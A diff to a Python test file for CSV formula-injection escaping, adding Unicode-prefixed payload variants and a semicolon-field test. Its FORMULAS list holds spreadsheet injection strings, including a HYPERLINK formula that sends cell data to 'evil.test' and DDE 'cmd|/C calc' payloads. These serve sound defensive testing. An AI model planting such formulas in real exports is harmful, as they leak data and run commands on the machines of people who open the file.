@@ -104,6 +104,7 @@ FORMULAS = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", " =1", "\ufeff=1", "\u00a0=1",
     "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "=HYPERLINK(\"http://evil.test\"&A1)", "=cmd|'/C calc'!A0",
     "-2+3+cmd|' /C calc'!A0", "--1", "-", "=", "-inf", "+x", "-1e", "-1 USD", "\tx", "-1\n=1",
+    "\u200b=1", "\u2060=1", "\u00ad@x", "\u202e+x",
 ]  # fmt: skip
 TEXTS = [
     "a=1", "1+1", "x@y", "'=1", "", "-5", "+5", "-0.5", "-.5", "-1e-3", "-5%", " -5 ", "\u22125 points",
@@ -115,6 +116,11 @@ TEXTS = [
 def test_a_formula_in_csv_is_text(text: str) -> None:
     rows = list(csv.reader(io.StringIO(csv_text([["name", text], [text, 1]]), newline="")))
     assert rows == [["name", f"'{text}"], [f"'{text}", "1"]]
+
+
+@pytest.mark.parametrize(("text", "shown"), [("a;=1", "a;'=1"), ("a; @x", "a; '@x"), ("5;-3", "5;-3")])
+def test_a_formula_behind_a_semicolon_is_text_where_those_part_columns(text: str, shown: str) -> None:
+    assert list(csv.reader(io.StringIO(csv_text([["x", text]]), newline=""))) == [["x", shown]]
 
 
 @pytest.mark.parametrize("text", TEXTS)
